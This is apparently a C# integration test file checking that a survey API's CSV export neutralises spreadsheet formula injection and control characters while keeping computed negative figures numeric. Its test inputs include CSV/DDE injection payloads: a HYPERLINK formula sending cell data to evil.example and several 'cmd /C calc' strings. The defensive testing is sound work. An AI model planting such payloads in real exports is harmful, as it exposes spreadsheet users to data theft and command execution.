using CxApi.Tests.Support;
using System.Net;
using System.Text;

namespace CxApi.Tests.Integration.Edge;

/// <summary>CSV exports can be opened in a spreadsheet without running what callers wrote into them.</summary>
public sealed class CsvInjectionTests(CxApiFactory factory) : IClassFixture<CxApiFactory>
{
    private readonly HttpClient _client = factory.CreateClient();

    private async Task<(string Raw, List<Dictionary<string, string>> Rows)> CsvAsync(string url)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, url);
        request.Headers.Accept.ParseAdd("text/csv");
        var response = await _client.SendAsync(request);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var raw = Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync());
        var rows = Csv.Parse(raw);
        return (raw, rows.Skip(1).Select(r => rows[0].Select((h, i) => (h, v: r[i])).ToDictionary(p => p.h, p => p.v)).ToList());
    }

    [Fact]
    public async Task FormulaLikeTextGetsALeadingQuoteAndControlCharactersAreReplacedInAListExport()
    {
        var survey = await _client.CreateSurveyAsync();
        var past = Api.Time(DateTimeOffset.UtcNow.AddHours(-1));
        var comments = new Dictionary<string, string>
        {
            ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"] = "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            ["+cmd|' /C calc'!A0"] = "'+cmd|' /C calc'!A0",
            ["-2+3+cmd|' /C calc'!A0"] = "'-2+3+cmd|' /C calc'!A0",
            ["@SUM(1+1)*cmd|' /C calc'!A0"] = "'@SUM(1+1)*cmd|' /C calc'!A0",
            ["\t=1+1"] = "'\t=1+1",
            ["\r=1+1"] = "'\r=1+1",
            ["bell\u0007inside"] = "bell\uFFFDinside", // (NUL is refused on input: see StrictWireFormatTests)
            ["\u001b]8;;http://evil.example\u0007link"] = "\uFFFD]8;;http://evil.example\uFFFDlink",
            ["plain, \"quoted\" text"] = "plain, \"quoted\" text",
        };
        foreach (var comment in comments.Keys)
            await _client.PostOkAsync("/v1/responses", new { surveyId = survey, score = 5, comment, product = "=evil()", respondedAt = past });

        var (raw, rows) = await CsvAsync($"/v1/responses?surveyId={survey}");

        Assert.Equal(comments.Values.Order(), rows.Select(r => r["comment"]).Order());
        Assert.All(rows, r => Assert.Equal("'=evil()", r["product"]));
        Assert.All(rows, r => Assert.Equal("5", r["score"]));
        Assert.DoesNotContain(raw, c => c < ' ' && c is not ('\t' or '\r' or '\n'));
        // The JSON form still carries exactly what was sent.
        var json = await _client.ListAllAsync($"/v1/responses?surveyId={survey}");
        Assert.Equal(comments.Keys.Order(), json.Select(r => r.GetProperty("comment").GetString()!).Order());
    }

    [Fact]
    public async Task NegativeFiguresTheServerComputesStayNumbersWhileACallersTextIsNeutralised()
    {
        var survey = await _client.CreateSurveyAsync();
        var now = DateTimeOffset.UtcNow;
        // A previous period of promoters, then one of detractors: NPS 100, then -100, a delta of -200.
        await _client.PostOkAsync("/v1/responses", new { surveyId = survey, score = 10, product = "-east", respondedAt = Api.Time(now.AddDays(-3)) });
        await _client.PostOkAsync("/v1/responses", new { surveyId = survey, score = 0, product = "-east", respondedAt = Api.Time(now.AddDays(-1)) });
        var period = $"surveyId={survey}&from={Api.Time(now.AddDays(-2))}&to={Api.Time(now)}";

        var (_, summary) = await CsvAsync($"/v1/metrics/summary?{period}");
        var nps = Assert.Single(summary, r => r["metric"] == "nps");
        Assert.Equal("-100", nps["value"]);
        Assert.Equal("-200", nps["delta"]);

        var (_, groups) = await CsvAsync($"/v1/metrics/nps?{period}&groupBy=product");
        var group = Assert.Single(groups);
        Assert.Equal("'-east", group["key"]);
        Assert.Equal("-100", group["value"]);
    }
}
